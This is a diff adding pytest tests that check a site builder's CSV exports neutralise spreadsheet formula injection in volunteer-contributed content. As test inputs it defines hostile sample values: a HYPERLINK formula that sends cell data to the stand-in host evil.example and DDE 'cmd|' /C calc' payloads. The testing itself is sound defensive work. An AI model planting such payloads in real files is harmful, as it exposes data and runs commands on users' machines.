@@ -145,3 +145,84 @@ def test_area_page_can_be_cited(built_site):
     assert data["@type"] == "WebPage" and data["mainEntity"]["@type"] == "Dataset"
     assert data["mainEntity"]["distribution"][0]["contentUrl"] == "https://example.github.io/portal/areas/testshire.json"
     assert "https://files.example.org/report.pdf" in data["mainEntity"]["isBasedOn"]
+
+
+# Spreadsheet formula injection (issue 13, item 6): content comes from volunteers' pull requests, so text
+# that reaches the CSV files must never start a formula when a journalist opens them in a spreadsheet.
+
+HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+HOSTILE_OUTCOME_TEXT = "+cmd|' /C calc'!A0"
+HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_SECOND_NOTE = "\t=1+1"
+
+
+def hostile_site(make_site):
+    site = make_site()
+    area = (site.content_dir / "areas/exampleton.yaml").read_text("utf-8")
+    area = area.replace("name: Exampleton", f"name: {json.dumps(HOSTILE_NAME)}")
+    area = area.replace(
+        "outcome_text: \"The local area partnership's SEND arrangements typically lead to positive experiences and outcomes "
+        "for children and young people with SEND.\"",
+        f"outcome_text: {json.dumps(HOSTILE_OUTCOME_TEXT)}\n    note: {json.dumps(HOSTILE_NOTE)}")
+    area = area.replace("    source: https://www.example.org/official-statistics",
+                        f"    source: https://www.example.org/official-statistics\n    note: {json.dumps(HOSTILE_SECOND_NOTE)}\n"
+                        "    outcome_text: \"-2+3 weaknesses\"", 1)
+    assert area.count("\n    note: ") == 2 and HOSTILE_OUTCOME_TEXT in area
+    site.write("areas/exampleton.yaml", area)
+    site.build(base_url="https://example.github.io/portal/")
+    return site
+
+
+def test_csv_cells_that_could_start_a_formula_are_neutralised(make_site):
+    site = hostile_site(make_site)
+    areas = read_csv(site.output_dir / "data/areas.csv")
+    exampleton = next(r for r in areas if r["slug"] == "exampleton")
+    assert exampleton["name"] == "'" + HOSTILE_NAME
+    events = [r for r in read_csv(site.output_dir / "data/events.csv") if r["area_slug"] == "exampleton"]
+    assert [(r["event_id"], r["area_name"], r["outcome_text"], r["note"]) for r in events] == [
+        ("inspection-2017-05-08", "'" + HOSTILE_NAME, "'-2+3 weaknesses", "'" + HOSTILE_SECOND_NOTE),
+        ("inspection-2025-02-03", "'" + HOSTILE_NAME, "'" + HOSTILE_OUTCOME_TEXT, "'" + HOSTILE_NOTE),
+    ]
+    # Nothing else changes: numbers, dates, months, booleans, addresses and ordinary text are written as they are.
+    assert (exampleton["latest_published"], exampleton["latest_start"], exampleton["events"], exampleton["current"]) == (
+        "2025-04-11", "2025-02-03", "2", "true")
+    testshire = next(r for r in areas if r["slug"] == "testshire")
+    assert (testshire["name"], testshire["la_number"], testshire["ofsted_urn"], testshire["gss_code"]) == (
+        "Testshire", "901", "99901", "E10000901")
+    oldshire = next(r for r in areas if r["slug"] == "oldshire")
+    assert oldshire["latest_start"] == "2017-01"
+    revisit = next(r for r in read_csv(site.output_dir / "data/events.csv") if r["event_id"] == "revisit-2019-10-07")
+    assert (revisit["start"], revisit["progress_sufficient"], revisit["framework"]) == ("2019-10-07", "3", "2016")
+    # No cell of either file starts a formula.
+    for name in ("areas.csv", "events.csv"):
+        raw = (site.output_dir / "data" / name).read_bytes().decode("utf-8-sig")
+        for row in csv.reader(io.StringIO(raw)):
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)
+
+
+def test_json_keeps_hostile_text_exactly(make_site):
+    site = hostile_site(make_site)
+    everything = json.loads((site.output_dir / "data/areas.json").read_text("utf-8"))
+    assert next(a for a in everything["areas"] if a["slug"] == "exampleton")["name"] == HOSTILE_NAME
+    exampleton = json.loads((site.output_dir / "areas/exampleton.json").read_text("utf-8"))
+    assert exampleton["name"] == HOSTILE_NAME
+    assert [(e["outcome_text"], e["note"]) for e in exampleton["history"]] == [
+        (HOSTILE_OUTCOME_TEXT, HOSTILE_NOTE), ("-2+3 weaknesses", HOSTILE_SECOND_NOTE)]
+
+
+def test_csv_cell_rules():
+    from site_builder.exports import Column, csv_cell, to_csv
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_cell(start + "1+1") == "'" + start + "1+1"
+    for safe in ("Bedford", " =1", "1-2", "2018-03-06", "2017-01", "https://a.example/?x=-1", "a=b", "'already"):
+        assert csv_cell(safe) == safe
+    assert (csv_cell(None), csv_cell(True), csv_cell(False), csv_cell(3), csv_cell(-3)) == ("", "true", "false", 3, -3)
+    columns = (Column("a", "", None), Column("b", "", None))
+    text = to_csv([{"a": "\r=1+1", "b": "-\n2"}, {"a": 0, "b": "=x"}], columns)
+    assert list(csv.reader(io.StringIO(text[1:]))) == [["a", "b"], ["'\r=1+1", "'-\n2"], ["0", "'=x"]]
+
+
+def test_data_page_says_how_csv_cells_are_neutralised(built_site):
+    text = built_site.soup("data/index.html").get_text(" ", strip=True)
+    assert ("a CSV cell whose text begins with = , + , - , @ , a tab or a carriage return has an apostrophe ( ' ) put in front "
+            "of it; the JSON files keep the exact text.") in text
